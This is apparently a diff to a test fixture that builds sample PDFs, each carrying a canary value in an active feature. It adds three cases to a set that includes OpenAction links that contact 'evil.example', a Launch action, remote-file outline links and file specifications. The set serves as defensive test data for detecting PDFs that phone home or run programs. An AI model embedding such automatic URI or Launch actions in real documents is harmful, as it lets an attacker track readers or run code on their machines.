@@ -69,6 +69,12 @@ PDF: dict[str, Callable[[], bytes]] = {
     "file within": linked(action("GoToE", F=CANARY, T={"/N": CANARY})),
     "then a program": linked(action("GoTo", D=[0], Next=action("Launch", F=CANARY))),
     "phones home": lambda: paper({"/OpenAction": action("URI", URI=f"https://evil.example/{CANARY}")}),
+    "phones home after turning the page": lambda: paper({"/OpenAction": action(
+        "GoTo", D=[0], Next=[action("URI", URI=f"https://evil.example/{CANARY}")])}),
+    "link of the outline": lambda: paper(
+        {"/Outlines": {"/First": {"/Title": "x", "/A": action("GoToR", F=CANARY)}}}),
+    "description of a file": lambda: paper(
+        {"/X": {"/Type": "/Filespec", "/F": CANARY, "/UF": CANARY, "/Desc": CANARY}}),
     "page phones home": lambda: paper(page={"/AA": {"/O": action("URI", URI=f"https://e/{CANARY}")}}),
     "beginning of addresses": lambda: paper({"/URI": {"/Base": f"https://e/{CANARY}"}}),
     "small picture": lambda: paper(page={"/Thumb": stream(CANARY.encode(), Type="/XObject")}),
